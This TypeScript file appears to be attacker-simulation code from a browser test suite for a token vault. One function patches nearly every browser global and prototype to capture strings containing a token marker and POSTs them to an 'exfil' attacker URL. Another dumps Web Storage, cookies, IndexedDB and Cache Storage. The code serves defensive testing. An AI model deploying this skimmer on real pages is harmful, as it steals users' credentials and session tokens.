// Attacker code run in the page (through page.evaluate) AFTER our module loaded. Each function is
// self-contained because Playwright sends its source text to the page.

/**
 * THREATS 21: replace or wrap every global a vault might use, and record any value that contains
 * `marker` (the token prefix, which the attacker is assumed to know). Stolen strings are kept in
 * `window.__stolen` and sent to `exfil` (the attacker's server) with a fetch captured before
 * patching. Returns the list of patched names.
 */
export function installHostilePatches(args: { marker: string; exfil: string }): string[] {
  const w = window as unknown as Record<string, unknown> & { __stolen: string[]; __restore: () => void };
  const { marker, exfil } = args;
  const RA = Reflect.apply;
  const gopd = Object.getOwnPropertyDescriptor;
  const dp = Object.defineProperty;
  const stringify = JSON.stringify;
  const savedFetch = window.fetch;
  const hForEach = Headers.prototype.forEach;
  const reqHeaders = gopd(Request.prototype, 'headers')!.get!;
  const resClone = Response.prototype.clone;
  const resText = Response.prototype.text;
  const pThen = Promise.prototype.then;
  const includes = String.prototype.includes;
  // Originals, taken before the constructors are replaced below.
  const OPromise = Promise;
  const OResponseProto = Response.prototype;
  const statusGet = gopd(OResponseProto, 'status')!.get!;
  const isResponse = (v: unknown): v is Response => {
    try {
      RA(statusGet, v, []);
      return true;
    } catch {
      return false;
    }
  };
  const isHeaders = (v: unknown): boolean => {
    try {
      RA(hForEach, v, [() => {}]);
      return true;
    } catch {
      return false;
    }
  };
  const stolen: string[] = [];
  w.__stolen = stolen;
  // Body reads the hooks started (cloned responses): `__settled` resolves once all have finished.
  const reads: Promise<unknown>[] = [];
  let busy = false;
  const report = (where: string, s: string): void => {
    stolen[stolen.length] = `${where}: ${s}`;
    try {
      RA(savedFetch, window, [exfil, { method: 'POST', mode: 'no-cors', body: `${where}: ${s}` }]);
    } catch {}
  };
  const check = (where: string, s: string): void => {
    if (RA(includes, s, [marker])) report(where, s);
  };
  // Objects are kept and looked at again later: a token may be written into an object after the
  // attacker first got hold of it.
  const kept: Array<[unknown, string]> = [];
  const seen = (v: unknown, where: string): void => {
    if (busy) return;
    busy = true;
    if (v !== null && typeof v === 'object' && kept.length < 20000) kept[kept.length] = [v, where];
    try {
      if (typeof v === 'string') check(where, v);
      else if (v !== null && (typeof v === 'object' || typeof v === 'function')) {
        if (isHeaders(v)) {
          let s = '';
          RA(hForEach, v, [
            (val: string, k: string) => {
              s += `${k}=${val};`;
            },
          ]);
          check(where, s);
        } else if (isResponse(v)) {
          try {
            const c = RA(resClone, v, []) as Response;
            reads[reads.length] = RA(pThen, RA(resText, c, []), [
              (t: string) => check(`${where}(body)`, t),
              () => {},
            ]) as Promise<unknown>;
          } catch {}
        } else {
          try {
            const h = RA(reqHeaders, v, []);
            busy = false;
            seen(h, `${where}.headers`);
            busy = true;
          } catch {}
          try {
            check(where, stringify(v) ?? '');
          } catch {}
        }
      }
    } finally {
      busy = false;
    }
  };
  const restores: Array<() => void> = [];
  const names: string[] = [];
  const wrapFn = (obj: object | undefined, key: PropertyKey, name: string): void => {
    if (!obj) return;
    const d = gopd(obj, key);
    if (!d || typeof d.value !== 'function') return;
    const orig = d.value as (...a: unknown[]) => unknown;
    const wrapped = function (this: unknown, ...a: unknown[]): unknown {
      if (busy) return new.target ? Reflect.construct(orig, a, new.target) : RA(orig, this, a);
      seen(this, `${name}.this`);
      for (let i = 0; i < a.length; i++) seen(a[i], `${name}.arg${i}`);
      const r = new.target ? Reflect.construct(orig, a, new.target) : RA(orig, this, a);
      seen(r, `${name}.ret`);
      if (r instanceof OPromise) {
        try {
          RA(pThen, r, [(v: unknown) => seen(v, `${name}.resolved`), () => {}]);
        } catch {}
      }
      return r;
    };
    try {
      dp(wrapped, 'prototype', { value: (orig as { prototype?: unknown }).prototype, writable: true });
    } catch {}
    try {
      dp(obj, key, { ...d, value: wrapped });
      restores.push(() => dp(obj, key, d));
      names.push(name);
    } catch {}
  };
  const trap = (obj: object, key: PropertyKey, name: string): void => {
    // A getter/setter pair planted where an implementation might read or write.
    const d = gopd(obj, key);
    try {
      dp(obj, key, {
        configurable: true,
        get(this: unknown) {
          seen(this, `${name}.get(this)`);
          return d?.get ? RA(d.get, this, []) : d?.value;
        },
        set(this: object, v: unknown) {
          seen(v, `${name}.set`);
          seen(this, `${name}.set(this)`);
          dp(this, key, { value: v, writable: true, enumerable: true, configurable: true });
        },
      });
      restores.push(() => (d ? dp(obj, key, d) : delete (obj as Record<PropertyKey, unknown>)[key]));
      names.push(name);
    } catch {}
  };
  const wrapAll = (obj: object | undefined, name: string): void => {
    if (!obj) return;
    for (const k of Reflect.ownKeys(obj)) if (k !== 'constructor') wrapFn(obj, k, `${name}.${String(k)}`);
  };

  // Globals and their prototypes.
  for (const g of ['fetch', 'atob', 'btoa', 'encodeURIComponent', 'structuredClone', 'postMessage', 'String'])
    wrapFn(window, g, g);
  wrapAll(Reflect, 'Reflect');
  wrapAll(JSON, 'JSON');
  for (const k of [
    'defineProperty',
    'assign',
    'keys',
    'entries',
    'fromEntries',
    'freeze',
    'hasOwn',
    'create',
  ])
    wrapFn(Object, k, `Object.${k}`);
  wrapFn(Array, 'isArray', 'Array.isArray');
  wrapFn(Array, 'from', 'Array.from');
  wrapAll(Function.prototype, 'Function.prototype');
  wrapAll(Array.prototype, 'Array.prototype');
  wrapAll(Object.getPrototypeOf([][Symbol.iterator]()), 'ArrayIterator');
  wrapAll(String.prototype, 'String.prototype');
  wrapAll(RegExp.prototype, 'RegExp.prototype');
  wrapAll(Promise.prototype, 'Promise.prototype');
  for (const k of ['resolve', 'reject', 'all', 'race']) wrapFn(Promise, k, `Promise.${k}`);
  wrapAll(Response.prototype, 'Response.prototype');
  wrapAll(Request.prototype, 'Request.prototype');
  wrapAll(Headers.prototype, 'Headers.prototype');
  wrapAll(Object.getPrototypeOf(new Headers().entries()), 'HeadersIterator');
  wrapAll(URL.prototype, 'URL.prototype');
  wrapAll(URLSearchParams.prototype, 'URLSearchParams.prototype');
  wrapAll(TextEncoder.prototype, 'TextEncoder.prototype');
  wrapAll(TextDecoder.prototype, 'TextDecoder.prototype');
  wrapAll(Map.prototype, 'Map.prototype');
  wrapAll(Set.prototype, 'Set.prototype');
  wrapAll(WeakMap.prototype, 'WeakMap.prototype');
  wrapAll(EventTarget.prototype, 'EventTarget.prototype');
  wrapAll(XMLHttpRequest.prototype, 'XMLHttpRequest.prototype');
  wrapAll(Storage.prototype, 'Storage.prototype');
  wrapAll(MessagePort.prototype, 'MessagePort.prototype');
  wrapAll(BroadcastChannel.prototype, 'BroadcastChannel.prototype');
  wrapAll(console, 'console');
  wrapFn(navigator, 'sendBeacon', 'navigator.sendBeacon');
  wrapFn(Navigator.prototype, 'sendBeacon', 'Navigator.prototype.sendBeacon');
  // Constructors replaced by recording subclasses.
  for (const c of ['URL', 'Request', 'Headers', 'Response', 'TextEncoder', 'Blob', 'FormData', 'Promise']) {
    const Orig = w[c] as new (...a: unknown[]) => object;
    const Sub = class extends Orig {
      constructor(...a: unknown[]) {
        for (let i = 0; i < a.length; i++) seen(a[i], `new ${c}.arg${i}`);
        super(...a);
      }
    };
    const d = gopd(window, c)!;
    dp(window, c, { ...d, value: Sub });
    restores.push(() => dp(window, c, d));
    names.push(`window.${c}`);
  }
  // Accessors planted on Object.prototype and Array.prototype.
  for (const k of [
    'authorization',
    'Authorization',
    'headers',
    'token',
    'h',
    'i',
    'x',
    'body',
    '0',
    '1',
    '2',
  ])
    trap(Object.prototype, k, `Object.prototype.${k}`);
  for (const k of ['0', '1', '2', '3']) trap(Array.prototype, k, `Array.prototype[${k}]`);
  // `then` on Object.prototype and on Response.prototype: the promise resolve procedure reads it.
  trap(Object.prototype, 'then', 'Object.prototype.then');
  trap(OResponseProto, 'then', 'Response.prototype.then');
  // `constructor` of promises (read by await and by then's species lookup) and Promise[@@species].
  try {
    const d = gopd(OPromise.prototype, 'constructor')!;
    dp(OPromise.prototype, 'constructor', {
      configurable: true,
      get(this: Promise<unknown>) {
        if (!busy && this instanceof OPromise)
          try {
            RA(pThen, this, [(v: unknown) => seen(v, 'Promise.prototype.constructor(this).value'), () => {}]);
          } catch {}
        return OPromise;
      },
    });
    restores.push(() => dp(OPromise.prototype, 'constructor', d));
    names.push('Promise.prototype.constructor');
    const s = gopd(OPromise, Symbol.species)!;
    dp(OPromise, Symbol.species, {
      configurable: true,
      get() {
        return s.get ? RA(s.get, this, []) : OPromise;
      },
    });
    restores.push(() => dp(OPromise, Symbol.species, s));
    names.push('Promise[Symbol.species]');
  } catch {}
  (Error as unknown as { prepareStackTrace: unknown }).prepareStackTrace = (e: Error, frames: unknown[]) => {
    seen(e.message, 'Error.prepareStackTrace');
    return `${e.message}\n${frames.length} frames`;
  };
  restores.push(() => {
    (Error as unknown as { prepareStackTrace: unknown }).prepareStackTrace = undefined;
  });
  (w as unknown as { __rescan: () => void }).__rescan = () => {
    const n = kept.length;
    for (let i = 0; i < n; i++) {
      const [o, where] = kept[i]!;
      seen(o, `${where} (later)`);
    }
  };
  (w as unknown as { __settled: () => Promise<void> }).__settled = () =>
    new OPromise<void>((resolve) => {
      let i = 0;
      const step = (): void => {
        if (i >= reads.length) resolve();
        else RA(pThen, reads[i++], [step, step]);
      };
      step();
    });
  w.__restore = () => {
    busy = true;
    for (let i = restores.length - 1; i >= 0; i--)
      try {
        restores[i]!();
      } catch {}
    busy = false;
  };
  return names;
}

/**
 * Reads every place a page script could find a persisted token: Web Storage, cookies,
 * window.name, IndexedDB and Cache Storage. Returns one string.
 */
export async function dumpStorage(): Promise<string> {
  const parts: string[] = [];
  for (const s of [localStorage, sessionStorage])
    for (let i = 0; i < s.length; i++) parts.push(`${s.key(i)}=${s.getItem(s.key(i)!)}`);
  parts.push(`cookie=${document.cookie}`, `name=${window.name}`);
  const dbs = (await indexedDB.databases?.()) ?? [];
  for (const info of dbs) {
    const db = await new Promise<IDBDatabase>((res, rej) => {
      const r = indexedDB.open(info.name!);
      r.onsuccess = () => res(r.result);
      r.onerror = () => rej(r.error);
    });
    for (const store of Array.from(db.objectStoreNames)) {
      const all = await new Promise<unknown>((res) => {
        const r = db.transaction(store).objectStore(store).getAll();
        r.onsuccess = () => res(r.result);
        r.onerror = () => res(null);
      });
      parts.push(`idb:${info.name}/${store}=${JSON.stringify(all)}`);
    }
    db.close();
  }
  if (typeof caches !== 'undefined')
    for (const name of await caches.keys()) {
      const c = await caches.open(name);
      for (const req of await c.keys()) {
        const res = await c.match(req);
        parts.push(`cache:${name}:${req.url}=${res ? await res.text() : ''}`);
        parts.push(`cache-req-headers:${JSON.stringify([...req.headers])}`);
      }
    }
  return parts.join('\n');
}
